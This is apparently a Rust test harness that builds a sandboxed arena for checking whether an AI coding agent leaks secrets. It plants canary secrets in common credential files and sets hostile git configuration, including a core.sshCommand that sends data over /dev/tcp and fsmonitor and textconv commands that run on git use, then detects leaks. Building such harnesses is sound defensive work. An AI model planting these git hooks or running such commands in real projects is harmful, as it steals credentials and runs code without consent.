//! The public exfiltration corpus (`corpus/exfiltration.txt`) and the
//! arena it runs against: loopback TCP and UDP listeners, a unix socket on
//! disk and an abstract one, a process outside the sandbox with a canary
//! in its environment, a home whose secret stores hold a canary, and a git
//! project (with an embedded bare repository and a diff driver in its
//! configuration that would write if git ran it).
//!
//! [`Arena::leaks`] says what got out or changed: a connection or datagram
//! at a listener, a changed file (content, mode, owner, times — the ctime
//! moves with every metadata change), a signalled or traced outside
//! process, or a canary in the text given.
//!
//! ```
//! let attacks = catui_testkit::exfiltration::attacks();
//! assert!(attacks.len() >= 60);
//! ```

use std::collections::BTreeMap;
use std::io::{self, Read};
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::MetadataExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// The corpus file's text.
pub const CORPUS: &str = include_str!("../corpus/exfiltration.txt");

/// In every secret store of the arena's home.
pub const SECRET: &str = "catui-canary-secret-7f3a91";
/// In the outside process's environment.
pub const ENV_CANARY: &str = "catui-canary-environ-2c9104";

/// One attack of the corpus.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attack {
    /// What it goes after (`network`, `secrets`, ...).
    pub class: String,
    /// The command, with placeholders.
    pub template: String,
    /// Where it is in the corpus file (1-based).
    pub line: usize,
}

/// Every attack of the corpus. Panics on a malformed line (the tests'
/// own data).
pub fn attacks() -> Vec<Attack> {
    const CLASSES: &[&str] = &[
        "network",
        "unix",
        "processes",
        "environ",
        "secrets",
        "metadata",
        "files",
        "git",
    ];
    let mut out = Vec::new();
    for (n, line) in CORPUS.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (class, template) = line
            .split_once(char::is_whitespace)
            .unwrap_or_else(|| panic!("exfiltration.txt line {}: no command", n + 1));
        assert!(
            CLASSES.contains(&class),
            "exfiltration.txt line {}: unknown class {class}",
            n + 1
        );
        out.push(Attack {
            class: class.to_string(),
            template: template.trim().to_string(),
            line: n + 1,
        });
    }
    out
}

/// The world the corpus runs against. Its outside process is ended when
/// it is dropped.
pub struct Arena {
    pub root: PathBuf,
    pub project: PathBuf,
    pub home: PathBuf,
    /// A directory beside the project that [`Arena::leaks`] does not
    /// watch: where attacks run as acceptEdits edits write their output
    /// (given to catui with `--add-dir`), read back for canaries.
    pub scratch: PathBuf,
    tcp: TcpListener,
    udp: UdpSocket,
    unix_path: PathBuf,
    unix: UnixListener,
    abstract_name: String,
    abstract_listener: UnixListener,
    outside: Child,
    before: BTreeMap<PathBuf, String>,
}

/// The secret stores of the arena's home, each holding [`SECRET`].
const STORES: &[&str] = &[
    ".ssh/id_rsa",
    ".aws/credentials",
    ".netrc",
    ".git-credentials",
    ".docker/config.json",
    ".kube/config",
    ".npmrc",
    ".pypirc",
    ".cargo/credentials.toml",
    ".config/gcloud/credentials.db",
    ".gnupg/secring.gpg",
];

impl Arena {
    /// Builds the arena under `root` (an empty directory).
    pub fn new(root: &Path) -> io::Result<Arena> {
        let root = root.canonicalize()?;
        let project = root.join("project");
        let home = root.join("home");
        let scratch = root.join("scratch");
        for dir in [&project, &home, &root.join("outside"), &scratch] {
            std::fs::create_dir_all(dir)?;
        }
        for store in STORES {
            let path = home.join(store);
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent)?;
            }
            std::fs::write(&path, format!("key = {SECRET}\n"))?;
        }
        std::fs::write(root.join(".env"), format!("TOKEN={SECRET}\n"))?;
        std::fs::write(root.join("outside/kept.txt"), "kept\n")?;
        let tcp = TcpListener::bind("127.0.0.1:0")?;
        tcp.set_nonblocking(true)?;
        let udp = UdpSocket::bind("127.0.0.1:0")?;
        udp.set_nonblocking(true)?;
        let unix_path = root.join("agent.sock");
        let unix = UnixListener::bind(&unix_path)?;
        unix.set_nonblocking(true)?;
        static ARENAS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let n = ARENAS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let abstract_name = format!("catui-arena-{}-{n}", std::process::id());
        let abstract_listener =
            UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes())?)?;
        abstract_listener.set_nonblocking(true)?;
        build_project(&project, tcp.local_addr()?.port())?;
        let outside = Command::new("sleep")
            .arg("314159")
            .env("OUTSIDE_CANARY", ENV_CANARY)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()?;
        let mut arena = Arena {
            root,
            project,
            home,
            scratch,
            tcp,
            udp,
            unix_path,
            unix,
            abstract_name,
            abstract_listener,
            outside,
            before: BTreeMap::new(),
        };
        arena.before = arena.snapshot();
        Ok(arena)
    }

    /// `attack`'s command with the placeholders filled in.
    pub fn command(&self, attack: &Attack) -> String {
        let port = |a: io::Result<std::net::SocketAddr>| a.map(|a| a.port()).unwrap_or(0);
        attack
            .template
            .replace("{TCP}", &port(self.tcp.local_addr()).to_string())
            .replace("{UDP}", &port(self.udp.local_addr()).to_string())
            .replace("{UNIX}", &self.unix_path.display().to_string())
            .replace("{ABSTRACT}", &self.abstract_name)
            .replace("{PID}", &self.outside.id().to_string())
            .replace("{ROOT}", &self.root.display().to_string())
            .replace("{PROJECT}", &self.project.display().to_string())
            .replace("{HOME}", &self.home.display().to_string())
    }

    /// What got out or changed since the arena was built (or the last
    /// call), with `text` searched for the canaries and `extra` ones. The
    /// listeners are drained, so each call reports only what is new.
    pub fn leaks(&mut self, text: &str, extra: &[&str]) -> Vec<String> {
        let mut found = Vec::new();
        while let Ok((mut s, _)) = self.tcp.accept() {
            let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
            let mut buf = Vec::new();
            let _ = s.read_to_end(&mut buf);
            found.push(format!("a TCP connection ({} bytes)", buf.len()));
        }
        let mut buf = [0u8; 2048];
        while let Ok(n) = self.udp.recv(&mut buf) {
            found.push(format!("a UDP datagram ({n} bytes)"));
        }
        while self.unix.accept().is_ok() {
            found.push("a unix-socket connection".into());
        }
        while self.abstract_listener.accept().is_ok() {
            found.push("an abstract unix-socket connection".into());
        }
        let now = self.snapshot();
        for (path, _) in changed(&self.before, &now) {
            found.push(format!("{} changed", path.display()));
        }
        self.before = now;
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.outside.id()))
            .unwrap_or_default();
        let field = |name: &str| {
            status
                .lines()
                .find(|l| l.starts_with(name))
                .unwrap_or_default()
                .to_string()
        };
        let (state, tracer) = (field("State:"), field("TracerPid:"));
        if !state.contains("S (sleeping)") || tracer.split_whitespace().nth(1) != Some("0") {
            found.push(format!(
                "the outside process was reached ({state}; {tracer})"
            ));
        }
        for canary in [SECRET, ENV_CANARY].iter().chain(extra) {
            if text.contains(canary) {
                found.push(format!("the canary {canary} came out"));
            }
        }
        found
    }

    /// Content, mode, owner, times and ctime of everything in the arena
    /// but the sockets.
    fn snapshot(&self) -> BTreeMap<PathBuf, String> {
        let mut out = BTreeMap::new();
        let mut stack = vec![self.root.clone()];
        while let Some(dir) = stack.pop() {
            let Ok(entries) = std::fs::read_dir(&dir) else {
                continue;
            };
            for e in entries.flatten() {
                let p = e.path();
                let Ok(m) = std::fs::symlink_metadata(&p) else {
                    continue;
                };
                if m.file_type().is_socket() || p == self.scratch {
                    continue;
                }
                let mut v = format!(
                    "mode {:o} owner {}:{} mtime {}.{} ctime {}.{}",
                    m.mode(),
                    m.uid(),
                    m.gid(),
                    m.mtime(),
                    m.mtime_nsec(),
                    m.ctime(),
                    m.ctime_nsec()
                );
                if m.is_dir() {
                    stack.push(p.clone());
                } else if m.is_file() {
                    v.push(' ');
                    v.push_str(&String::from_utf8_lossy(
                        &std::fs::read(&p).unwrap_or_default(),
                    ));
                }
                out.insert(p, v);
            }
        }
        out
    }
}

use std::os::unix::fs::FileTypeExt;

fn changed<'a>(
    a: &'a BTreeMap<PathBuf, String>,
    b: &'a BTreeMap<PathBuf, String>,
) -> Vec<(&'a PathBuf, ())> {
    a.keys()
        .chain(b.keys())
        .filter(|k| a.get(*k) != b.get(*k))
        .map(|k| (k, ()))
        .collect::<BTreeMap<_, _>>()
        .into_iter()
        .collect()
}

impl Drop for Arena {
    fn drop(&mut self) {
        let _ = self.outside.kill();
        let _ = self.outside.wait();
    }
}

/// The project: a git repository with a diff driver in its configuration
/// and an embedded bare repository whose configuration would write into
/// the project or connect to the TCP listener if git ran its programs.
fn build_project(project: &Path, tcp: u16) -> io::Result<()> {
    let p = project.display();
    let script = format!(
        r#"set -e
cd "{p}"
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
id='-c user.name=t -c user.email=t@example.invalid'
git init -q
printf '# Demo\n' > README.md
mkdir -p src && printf 'pub fn f() {{}}\n' > src/lib.rs
printf '#!/bin/sh\necho run\n' > run.sh && chmod +x run.sh
printf '*.md diff=evil\n' > .gitattributes
git add -A
git $id commit -qm init
mkdir -p vendor
git clone -q --bare . vendor/evil.git
git add -A
git $id commit -qm vendor
e="git --git-dir=vendor/evil.git config"
$e core.fsmonitor "touch {p}/pwned-bare-fsmonitor"
$e core.sshCommand "bash -c 'echo leak > /dev/tcp/127.0.0.1/{tcp}'"
$e remote.origin.url ssh://example.invalid/x
$e diff.evil.textconv "sh -c 'touch {p}/pwned-bare-textconv; cat \"\$1\"' -"
mkdir -p vendor/evil.git/info && printf '* diff=evil\n' > vendor/evil.git/info/attributes
git config diff.evil.textconv "sh -c 'touch {p}/pwned-textconv; cat \"\$1\"' -"
git config core.fsmonitor "touch {p}/pwned-fsmonitor"
printf 'changed\n' >> README.md
"#
    );
    let status = Command::new("bash")
        .arg("-c")
        .arg(script)
        .stdin(Stdio::null())
        .status()?;
    if status.success() {
        Ok(())
    } else {
        Err(io::Error::other(format!(
            "building the arena's project failed: {status}"
        )))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_corpus_parses_and_is_large_enough() {
        let all = attacks();
        assert!(all.len() >= 60, "{}", all.len());
        for class in [
            "network",
            "unix",
            "processes",
            "environ",
            "secrets",
            "metadata",
        ] {
            assert!(all.iter().any(|a| a.class == class), "{class}");
        }
    }
}
